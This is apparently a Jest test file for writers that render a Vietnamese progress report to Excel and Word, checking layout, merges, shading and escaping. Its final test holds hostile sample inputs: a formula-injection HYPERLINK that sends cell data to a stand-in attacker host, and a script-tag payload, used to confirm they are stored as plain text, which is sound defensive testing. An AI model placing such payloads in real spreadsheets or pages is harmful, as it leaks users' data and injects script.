import { Workbook } from 'exceljs';
import JSZip from 'jszip';
import type { ReportDocument } from './report-document';
import { renderDocx } from './report-docx.writer';
import { renderXlsx } from './report-xlsx.writer';

const doc: ReportDocument = {
  fileName: 'Tiến độ',
  sheetName: 'Tiến độ thực hiện',
  title: 'Báo cáo tiến độ',
  orientation: 'landscape',
  heading: [{ text: 'BÁO CÁO TIẾN ĐỘ', bold: true, size: 14 }, { text: 'Tính đến ngày 31/03/2025', italic: true }],
  columns: [
    { header: 'STT', width: 6, align: 'center' },
    { header: 'Nhiệm vụ cụ thể', width: 40 },
    { header: 'Tình trạng', width: 16, align: 'center' },
    { header: 'Tỷ lệ', width: 10, percent: true },
  ],
  rows: [
    { kind: 'band', text: 'I. CÔNG TÁC CHỈ ĐẠO ĐIỀU HÀNH' },
    { kind: 'cells', cells: [{ value: '1' }, { value: 'Ban hành Kế hoạch kiểm tra công tác cải cách hành chính\nDòng hai' }, { value: 'Hoàn thành đúng hạn', fill: 'C8E6C9' }, { value: 0.5 }] },
    { kind: 'cells', bold: true, cells: [{ value: 'Tổng cộng', span: 2, align: 'right' }, { value: 12 }, { value: null }] },
  ],
  footer: [{ text: 'Ghi chú: thử', italic: true }],
};

/** The text of each paragraph of word/document.xml. */
async function docxParagraphs(bytes: Buffer): Promise<{ xml: string; paragraphs: string[] }> {
  const xml = await (await JSZip.loadAsync(bytes)).file('word/document.xml')!.async('string');
  const paragraphs = [...xml.matchAll(/<w:p[ >].*?<\/w:p>/gs)].map((p) => [...p[0].matchAll(/<w:t[^>]*>([^<]*)<\/w:t>/g)].map((t) => t[1]).join(''));
  return { xml, paragraphs };
}

describe('report writers', () => {
  it('writes the .xlsx: heading, header row repeated on print, band rows across the table, fills, numbers and merges', async () => {
    const workbook = new Workbook();
    await workbook.xlsx.load((await renderXlsx(doc)) as unknown as Parameters<Workbook['xlsx']['load']>[0]);
    const ws = workbook.getWorksheet('Tiến độ thực hiện')!;
    expect(ws.getCell('A1').value).toBe('BÁO CÁO TIẾN ĐỘ');
    expect(ws.getCell('A1').font.bold).toBe(true);
    expect(ws.getCell('A2').value).toBe('Tính đến ngày 31/03/2025');
    expect([1, 2, 3, 4].map((c) => ws.getRow(4).getCell(c).value)).toEqual(['STT', 'Nhiệm vụ cụ thể', 'Tình trạng', 'Tỷ lệ']);
    expect(ws.pageSetup.printTitlesRow).toBe('4:4');
    expect(ws.pageSetup.orientation).toBe('landscape');
    expect(ws.getCell('A5').value).toBe('I. CÔNG TÁC CHỈ ĐẠO ĐIỀU HÀNH');
    expect(ws.getCell('D5').isMerged).toBe(true);
    expect(ws.getCell('B6').value).toBe('Ban hành Kế hoạch kiểm tra công tác cải cách hành chính\nDòng hai');
    expect(ws.getRow(6).height).toBeGreaterThan(30); // two lines and more
    expect(ws.getCell('C6').fill).toMatchObject({ type: 'pattern', fgColor: { argb: 'FFC8E6C9' } });
    expect(ws.getCell('D6').value).toBe(0.5);
    expect(ws.getCell('D6').numFmt).toBe('0.0%');
    expect(ws.getCell('A7').value).toBe('Tổng cộng');
    expect(ws.getCell('B7').master.address).toBe('A7');
    expect(ws.getCell('C7').value).toBe(12);
    expect(ws.getCell('A9').value).toBe('Ghi chú: thử');
  });

  it('writes the .docx: landscape, the header row repeated on every page, band and spanning cells, shading, one paragraph per line', async () => {
    const { xml, paragraphs } = await docxParagraphs(await renderDocx(doc));
    expect(xml).toMatch(/<w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/);
    expect(xml).toContain('<w:tblHeader/>');
    expect(xml).toContain('<w:gridSpan w:val="4"/>');
    expect(xml).toContain('<w:gridSpan w:val="2"/>');
    expect(xml).toMatch(/w:fill="C8E6C9"/);
    expect(paragraphs).toEqual(
      expect.arrayContaining([
        'BÁO CÁO TIẾN ĐỘ',
        'Tính đến ngày 31/03/2025',
        'I. CÔNG TÁC CHỈ ĐẠO ĐIỀU HÀNH',
        'Ban hành Kế hoạch kiểm tra công tác cải cách hành chính',
        'Dòng hai',
        '50%',
        'Tổng cộng',
        'Ghi chú: thử',
      ]),
    );
  });

  it('refuses a row that does not cover the table', async () => {
    await expect(renderXlsx({ ...doc, rows: [{ kind: 'cells', cells: [{ value: 'x' }] }] })).rejects.toThrow('covers 1 columns of 4');
  });

  it('writes text that looks like a formula or HTML as text: no cell of the .xlsx is a formula, the .docx escapes the markup', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', '+1+1', '-2+3', '@SUM(A1:A2)', '<script>alert(1)</script> & "trích dẫn"'];
    const withHostile: ReportDocument = {
      ...doc,
      rows: hostile.map((text, i) => ({ kind: 'cells' as const, cells: [{ value: String(i + 1) }, { value: text }, { value: text }, { value: null }] })),
    };
    const bytes = await renderXlsx(withHostile);
    const sheetXml = await (await JSZip.loadAsync(bytes)).file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheetXml).not.toContain('<f>');
    const workbook = new Workbook();
    await workbook.xlsx.load(bytes as unknown as Parameters<Workbook['xlsx']['load']>[0]);
    const texts: unknown[] = [];
    workbook.getWorksheet('Tiến độ thực hiện')!.eachRow((row) => row.eachCell((cell) => texts.push(cell.value)));
    for (const text of hostile) expect(texts.filter((v) => v === text)).toHaveLength(2);

    const { xml, paragraphs } = await docxParagraphs(await renderDocx(withHostile));
    expect(xml).not.toContain('<script>');
    expect(xml).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;trích dẫn&quot;');
    expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Bấm vào đây&quot;)');
    for (const text of hostile.slice(1, 4)) expect(paragraphs.filter((p) => p === text)).toHaveLength(2);
  });
});
